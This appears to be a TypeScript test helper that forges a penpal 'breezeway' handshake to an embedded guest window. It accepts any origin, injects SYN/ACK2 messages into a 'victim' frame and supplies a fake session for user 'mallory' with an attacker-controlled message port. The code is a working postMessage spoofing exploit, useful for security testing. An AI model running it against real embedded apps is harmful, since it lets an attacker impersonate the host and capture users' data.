import { connect, Reply, WindowMessenger } from "penpal";

/** Answers the handshake of an embedded guest as a host would. */
export function playHost(remoteWindow: Window): void {
  const { promise } = connect({
    messenger: new WindowMessenger({ remoteWindow, allowedOrigins: ["*"] }),
    channel: "breezeway",
    methods: {
      hello() {
        const { port1, port2 } = new MessageChannel();
        port1.start();
        return new Reply(forgedAnswer(port2), { transferables: [port2] });
      },
    },
  });
  promise.catch(() => undefined);
}

/**
 * Pushes a handshake through with a window that does not know this one: the guest's own messages go
 * to its parent, so the attacker sends the last step without having seen the ones before.
 */
export function pushHandshake(victim: Window): void {
  const header = { namespace: "penpal", channel: "breezeway" };
  const { port1, port2 } = new MessageChannel();
  port1.addEventListener("message", ({ data }) => {
    const call = data as { type?: unknown; id?: unknown };
    if (call.type !== "CALL") return;
    const channel = new MessageChannel();
    channel.port1.start();
    const reply = { ...header, type: "REPLY", callId: call.id };
    port1.postMessage({ ...reply, value: forgedAnswer(channel.port2) }, [channel.port2]);
  });
  port1.start();
  victim.postMessage({ ...header, type: "SYN", participantId: "attacker" }, "*");
  victim.postMessage({ ...header, type: "ACK2" }, "*", [port2]);
}

/** A welcome of the attacker's, with a gateway of the attacker's. */
function forgedAnswer(port: MessagePort): { welcome: unknown; port: MessagePort } {
  const welcome = {
    ok: true,
    protocol: 1,
    appId: "orders",
    capabilities: ["customers:read"],
    context: undefined,
    theme: { scheme: "light" },
    locale: "en",
    session: { userId: "mallory", tenantId: "acme", handle: "forged" },
    token: null,
    gatewayUrl: location.origin,
    nowMs: Date.now(),
  };
  return { welcome, port };
}
